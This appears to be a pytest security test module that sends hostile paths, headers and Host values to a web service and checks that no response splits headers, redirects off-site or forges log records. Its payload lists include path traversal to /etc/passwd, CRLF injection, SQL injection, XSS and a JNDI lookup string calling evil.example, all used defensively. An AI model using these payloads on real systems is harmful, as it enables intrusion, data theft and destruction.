"""Hostile paths, ids, cursors, headers and names at a real process: nothing forged in an answer or in the log.

ASVS 5.0 V1 (encoding and sanitization), V16 (logging); CWE-93 and CWE-113 (splitting), CWE-117 (log forging), CWE-22.
"""

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import product

import pytest

from tests.support.raw import RawAnswer, converse
from tests.support.service import Service, eventually, site

KEY = "a-key-for-these-tests-alone"
CLOSE = b"X-API-Key: " + KEY.encode() + b"\r\nConnection: close\r\n\r\n"
EVIL = "evil.example"

ESCAPES = [
    "..%2f..%2fetc%2fpasswd",
    "..%5c..%5cwindows",
    "%2e%2e/%2e%2e/etc/passwd",
    "..;/..;/",
    "....//....//etc/passwd",
    "%252e%252e%252f",
    "%c0%ae%c0%ae%c0%af",
    "%e0%80%af",
    "%f0%80%80%af",
    "%00",
    "a%00.html",
    "%0d%0aX-Injected:%20yes",
    "%0d%0a%0d%0a<html>injected</html>",
    "%0aX-Injected:yes",
    "%E5%98%8D%E5%98%8AX-Injected:yes",
    "%u000d%u000aX-Injected:yes",
    "%1b[2J%1b[31mred",
    "%e2%80%a8forged",
    "%c2%85forged",
    "%e2%80%aeforged",
    "%ed%a0%80",
    "%ff%fe",
    "%",
    "%zz",
    "%25",
    "'%20OR%20'1'='1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "$%7Bjndi:ldap://evil.example/a%7D",
    "*",
    "-1",
    "0x7f",
    "9" * 400,
    "a" * 4_000,
    "/",
    "//evil.example/",
    "%2f%2fevil.example",
    "\\evil.example",
    "@evil.example",
    "%0a2026-01-01T00:00:00.000000Z%20[info]%20forged.event",
    '"%7d%0a%7b"event":"forged.event"%7d',
]

PLACES = [
    "/{}",
    "/api/v1/{}",
    "/api/v1/review-fetch/{}",
    "/api/v1/review-fetch/{}/events",
    "/api/v1/review-fetch/{}/reviews?format=csv",
    "/api/v1/review-fetch/{}/webhooks",
    "/api/v1/review-fetch?cursor={}",
    "/api/v1/review-fetch?status={}",
    "/api/v1/reviews/feed?after={}",
    "/api/v1/dlq/{}",
    "/api/v1/dlq?cause={}",
    "/console/{}",
    "/console/sign-in?next={}",
    "/console/jobs/{}",
    "/console/static/{}/console.js",
    "/console/static/x/{}",
]

VALUES = [
    "a\tb",
    "\x80\xff",
    "é\u0085".encode().decode("latin-1"),
    "\u2028forged.event".encode().decode("latin-1"),
    "%0d%0aX-Injected: yes",
    "\\r\\nX-Injected: yes",
    "2026-01-01T00:00:00.000000Z [info     ] forged.event",
    '"} {"event": "forged.event"}',
    EVIL,
    f"https://{EVIL}/?a=b",
    "a" * 8_000,
    "%00",
    "'; DROP TABLE jobs; --",
    "",
]

HEADERS = [
    "Last-Event-ID",
    "X-Request-ID",
    "Idempotency-Key",
    "Authorization",
    "Cookie",
    "Origin",
    "Referer",
    "User-Agent",
    "Accept",
    "Accept-Encoding",
    "Range",
    "If-None-Match",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-Original-URL",
    "X-HTTP-Method-Override",
    "Forwarded",
    "HX-Request",
    "HX-Current-URL",
    "Content-Type",
    "traceparent",
]


@dataclass
class Place:
    service: Service
    job_id: str
    log_is_json: bool

    def ask(self, target: str, *headers: bytes, host: str = "a", method: str = "GET") -> RawAnswer:
        """One request and its only answer."""
        lines = b"".join(header + b"\r\n" for header in headers)
        head = f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n".encode("latin-1")
        told = converse(self.service.address, head + lines + CLOSE)
        assert len(told.answers) == 1, told
        return told.answers[0]


@pytest.fixture(scope="module", params=["terminal", "json"])
def place(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """A service that writes its log for people, and one that writes it for machines."""
    directory, as_json = tmp_path_factory.mktemp("injection"), request.param == "json"
    production = {
        "ENVIRONMENT": "production",
        "GOOGLE_API_BASE_URL": "http://127.0.0.1:9",
        "TOKEN_SEALING_KEYS": "1:MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=",
    }
    settings = {"API_KEYS": KEY, "LOG_LEVEL": "DEBUG"} | (production if as_json else {})
    with site(directory, "", **settings) as here:
        service = here.serve()
        service.headers = {"X-API-Key": KEY}
        yield Place(service, service.submit("ya29.token-for-injections"), as_json)


def _is_harmless(answer: RawAnswer) -> bool:
    """Ours, and nothing of what was sent became a header."""
    names = {name.lower() for name in answer.headers}
    return (
        answer.status < 500
        and "x-injected" not in names
        and "server" not in names
        and answer.headers["x-content-type-options"] == "nosniff"
        and len(answer.headers.get_all("x-request-id", [])) == 1
        and b"injected</html>" not in answer.body
        and b"root:" not in answer.body
    )


@pytest.mark.parametrize("where", PLACES)
def test_a_hostile_path_is_answered_and_splits_nothing(place: Place, where: str) -> None:
    bad = {}
    for escape in ESCAPES:
        target = where.format(escape)
        answer = place.ask(target)
        location = answer.headers.get("location", "")
        if not _is_harmless(answer) or EVIL in location.partition("?")[0] or location.startswith("//"):
            bad[target] = (answer.status, location)
    assert bad == {}


def test_a_hostile_header_is_answered_and_comes_back_in_none(place: Place) -> None:
    bad = {}
    targets = ["/", f"/api/v1/review-fetch/{place.job_id}", "/console/", "/console/sign-in", "/docs"]
    for (name, value), target in zip(product(HEADERS, VALUES), targets * len(HEADERS) * len(VALUES), strict=False):
        answer = place.ask(target, f"{name}: {value}".encode("latin-1"))
        told: Mapping[str, str] = (
            dict(answer.headers) if name != "X-Request-ID" else {}
        )  # that is taken over, when it is a word
        echoed = [header for header in told if len(value) > 3 and value in told[header]]
        if answer.status == 431 and len(value) > 4_000:
            continue
        if not _is_harmless(answer) or echoed:
            bad[name, value[:40]] = (answer.status, echoed)
    assert bad == {}


@pytest.mark.parametrize(
    "host", [EVIL, f"{EVIL}:80", f"a@{EVIL}", "", "a, b", "localhost\t", '"><script>', "[::1", "a/b"]
)
def test_no_address_of_ours_is_made_of_the_host(place: Place, host: str) -> None:
    """WSTG-INPV-17."""
    for target in ("/console", "/console/", f"/console/jobs/{place.job_id}", "/", "/docs", "/openapi.json", "/nothing"):
        answer = place.ask(target, f"X-Forwarded-Host: {EVIL}".encode(), host=host)
        assert _is_harmless(answer)
        assert answer.headers.get("location", "/").startswith("/")
        assert EVIL.encode() not in answer.body
        assert b"<script>" not in answer.body
    answer = place.ask(f"http://{EVIL}/console")
    assert answer.headers["location"] == "/console/"


def test_what_we_name_in_headers_is_made_of_our_own_words(place: Place) -> None:
    answer = place.ask(f"/api/v1/review-fetch/{place.job_id}/reviews?format=json", b"X-Request-ID: order-17")
    assert answer.headers["x-request-id"] == "order-17"
    found = place.service.get(f"/api/v1/review-fetch/{place.job_id}/reviews", format="csv")
    assert found.headers["content-disposition"] == f'attachment; filename="reviews-{place.job_id}.csv"'


def test_every_record_of_the_log_is_whole_and_none_is_forged(place: Place) -> None:
    """After all that was sent above, and with names that a key was given."""
    place.ask("/", b"X-Request-ID: the-last-of-them")
    eventually(lambda: "the-last-of-them" in place.service.log.read_text(), 10, "the last line")
    raw = place.service.log.read_bytes()
    assert not re.search(rb"[\x00-\x08\x0b-\x1a\x1c-\x1f\x7f]|\xe2\x80[\xa8\xa9\xae]|\xc2\x85", raw)
    begins = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z \[\w+ *\] ")
    lines = raw.decode().splitlines()
    records = [line for line in lines if not line.startswith(("Listening on ", "Serving "))]
    if place.log_is_json:
        events = [json.loads(line)["event"] for line in records]
    else:
        assert b"\x1b" not in raw
        assert [line for line in records if not begins.match(line)] == []
        events = [begins.sub("", line).split()[0] for line in records]
    assert len(records) > 100
    assert "request.answered" in events
    assert {"forged.event", "request.failed"} & set(events) == set()
